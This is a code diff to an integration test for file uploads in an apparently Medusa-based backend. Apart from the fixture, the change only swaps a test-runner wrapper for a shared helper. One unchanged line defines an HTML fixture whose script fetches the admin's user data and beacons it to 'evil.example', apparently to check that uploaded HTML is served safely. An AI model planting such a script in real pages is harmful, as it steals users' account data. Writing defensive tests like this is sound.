@@ -3,9 +3,8 @@
 // stored. GET /static/:key serves files with nosniff, a fixed type and a sandboxing CSP.
 import fs from "node:fs"
 import path from "node:path"
-import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
 import sharp from "sharp"
-import { backendDir, seedDistrictOnce } from "../../helpers/district"
+import { districtSuite } from "../../helpers/district"
 import { attempt, vendorLogin } from "../../helpers/vendors"
 
 jest.setTimeout(300_000)
@@ -17,10 +16,8 @@ const storedFiles = () => (fs.existsSync(uploadDir) ? fs.readdirSync(uploadDir).
 const HTML = "<html><body><script>fetch('/admin/users/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>"
 const realPng = (w = 64, h = 48) => sharp({ create: { width: w, height: h, channels: 3, background: "#b5532b" } }).png().toBuffer()
 
-medusaIntegrationTestRunner({
-  cwd: backendDir,
-  testSuite: ({ api, getContainer }) => {
-    seedDistrictOnce(getContainer, api)
+export default districtSuite({
+  testSuite: ({ api, getContainer, district }) => {
 
     const upload = async (files: { name: string; type: string; bytes: Buffer }[]) => {
       const form = new FormData()
